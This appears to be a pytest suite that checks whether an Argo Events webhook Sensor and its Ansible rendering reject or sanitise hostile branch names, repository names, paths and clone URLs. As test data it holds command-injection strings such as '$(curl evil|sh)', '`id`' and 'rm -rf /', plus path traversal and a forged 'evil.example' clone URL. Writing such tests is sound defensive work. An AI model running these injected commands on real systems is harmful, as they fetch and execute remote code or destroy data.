"""Hostile deliveries: shell metacharacters, newlines, `..`, unicode and extreme lengths in refs,
repository names and paths are rejected by the Sensor's anchored filters, or (where accepted)
end up only as inert, sanitized values: a valid Workflow name, a safe image and GitOps path."""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path
from typing import Any, Callable

import pytest

from conftest import FIXTURES, Delivery, simulate

DNS_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")


def _payload(name: str) -> dict[str, Any]:
    return json.loads((FIXTURES / name).read_text())


def _set_repo_name(p: dict[str, Any], name: str) -> None:
    p["repository"]["name"] = name
    p["repository"]["full_name"] = f"example/{name}"


HOSTILE: dict[str, tuple[str, str, Callable[[dict[str, Any]], None]]] = {
    "shell-metacharacters-in-branch": ("push", "push-main.json", lambda p: p.update(ref="refs/heads/main;$(curl evil|sh)")),
    "shell-metacharacters-in-tag": ("push", "push-tag.json", lambda p: p.update(ref="refs/tags/v1.2.0`id`")),
    "newline-after-branch": ("push", "push-main.json", lambda p: p.update(ref="refs/heads/main\n")),
    "newline-in-repo-name": ("push", "push-main.json", lambda p: _set_repo_name(p, "example-python\nevil")),
    "dot-dot-repo-path": ("push", "push-main.json", lambda p: _set_repo_name(p, "../../etc")),
    "unicode-lookalike-branch": ("push", "push-main.json", lambda p: p.update(ref="refs/heads/m\u0430in")),
    "unicode-repo-name": ("push", "push-main.json", lambda p: _set_repo_name(p, "ex\u00e4mple-python")),
    "extreme-length-ref": ("push", "push-main.json", lambda p: p.update(ref="refs/heads/main" + "a" * 100_000)),
    "extreme-length-repo-name": ("push", "push-main.json", lambda p: _set_repo_name(p, "x" * 100_000)),
    "extreme-pr-number": ("pull_request", "pull-request-opened.json", lambda p: p.update(number=10**12)),
    "sha-that-is-not-a-sha": ("push", "push-main.json", lambda p: p.update(after="main; rm -rf /")),
}


def _deliveries(tmp: Path, cases: dict[str, tuple[str, str, Callable[[dict[str, Any]], None]]]) -> list[Delivery]:
    out = []
    for name, (event, fixture, mutate) in cases.items():
        body = copy.deepcopy(_payload(fixture))
        mutate(body)
        path = tmp / f"{name}.json"
        path.write_text(json.dumps(body))
        out.append(Delivery(name, event, path))
    return out


@pytest.fixture(scope="module")
def hostile_results(argo_validate: Path, manifests_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict]:
    tmp = tmp_path_factory.mktemp("hostile")
    return simulate(argo_validate, manifests_dir, tmp, _deliveries(tmp, HOSTILE))


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_delivery_starts_nothing(hostile_results: dict[str, dict], case: str) -> None:
    result = hostile_results[case]
    assert result["accepted"], "the signature was good; the filters must be what stops it"
    assert result["fired"] == [], result["fired"]


def test_shell_metacharacters_in_a_pr_branch_name_stay_out_of_the_workflow(
        argo_validate: Path, manifests_dir: Path, tmp_path: Path) -> None:
    """The PR's head branch name is attacker-chosen; the Workflow never uses it."""
    hostile = '$(curl evil|sh);`id`\n../..'
    cases = {"pr-hostile-head-ref": ("pull_request", "pull-request-opened.json",
                                     lambda p: p["pull_request"]["head"].update(ref=hostile, label=hostile))}
    (fired,) = simulate(argo_validate, manifests_dir, tmp_path, _deliveries(tmp_path, cases))["pr-hostile-head-ref"]["fired"]
    assert fired["valid"]
    assert all(hostile not in v for v in fired["parameters"].values())


def test_odd_but_legal_repo_names_become_safe_names_and_paths(
        argo_validate: Path, variant_manifests: Path, tmp_path: Path) -> None:
    names = {
        "dots": "a..b",
        "long": "R" + "e" * 99,
        "underscores": "My_App.v2",
    }
    cases = {case: ("push", "push-main.json", lambda p, n=n: _set_repo_name(p, n)) for case, n in names.items()}
    results = simulate(argo_validate, variant_manifests, tmp_path, _deliveries(tmp_path, cases))
    for case in names:
        (fired,) = results[case]["fired"]
        assert fired["valid"], fired["validError"]
        assert len(fired["workflow"]) <= 63 and DNS_LABEL.match(fired["workflow"]), fired["workflow"]
        path = fired["parameters"]["gitops-path"]
        assert ".." not in path and re.fullmatch(r"apps/[a-z0-9-]+", path), path
        assert re.fullmatch(r"quay\.io/example/[a-z0-9-]+", fired["parameters"]["image-repository"])
    assert results["dots"]["fired"][0]["parameters"]["gitops-path"] == "apps/example-a-b"


@pytest.mark.parametrize("app_path", ["../other-repo", "/etc", "app/../../x", "app\nx", "app;rm -rf /"])
def test_an_app_path_leaving_the_repository_is_refused_at_render_time(tmp_path: Path, app_path: str) -> None:
    import subprocess

    from conftest import REPO

    proc = subprocess.run(
        ["ansible-playbook", "-i", "inventories/orbstack", "playbooks/manifests.yml",
         "-e", json.dumps({"luban_manifests_dir": str(tmp_path), "argo_events_app_path": app_path})],
        cwd=REPO, capture_output=True, text=True, timeout=600, check=False
    )
    assert proc.returncode != 0
    assert "keep argo_events_app_path a relative path inside the repository" in proc.stdout


def test_the_clone_url_of_a_delivery_never_reaches_the_workflow(
        argo_validate: Path, manifests_dir: Path, tmp_path: Path) -> None:
    """A signed delivery may name any clone_url (a forged or replayed payload, a compromised hook
    secret): the checkout clones <argo_workflows_github_url>/<full_name>.git and nothing else."""
    evil = "https://evil.example/steal.git"
    cases = {
        "push": ("push", "push-main.json", lambda p: p["repository"].update(clone_url=evil, html_url=evil)),
        "pr": ("pull_request", "pull-request-opened.json",
               lambda p: [r.update(clone_url=evil) for r in (p["repository"], p["pull_request"]["head"]["repo"])]),
    }
    results = simulate(argo_validate, manifests_dir, tmp_path, _deliveries(tmp_path, cases))
    for case in cases:
        (fired,) = results[case]["fired"]
        assert fired["valid"], fired["validError"]
        assert "repo-url" not in fired["parameters"]
        assert all("evil" not in value for value in fired["parameters"].values()), fired["parameters"]
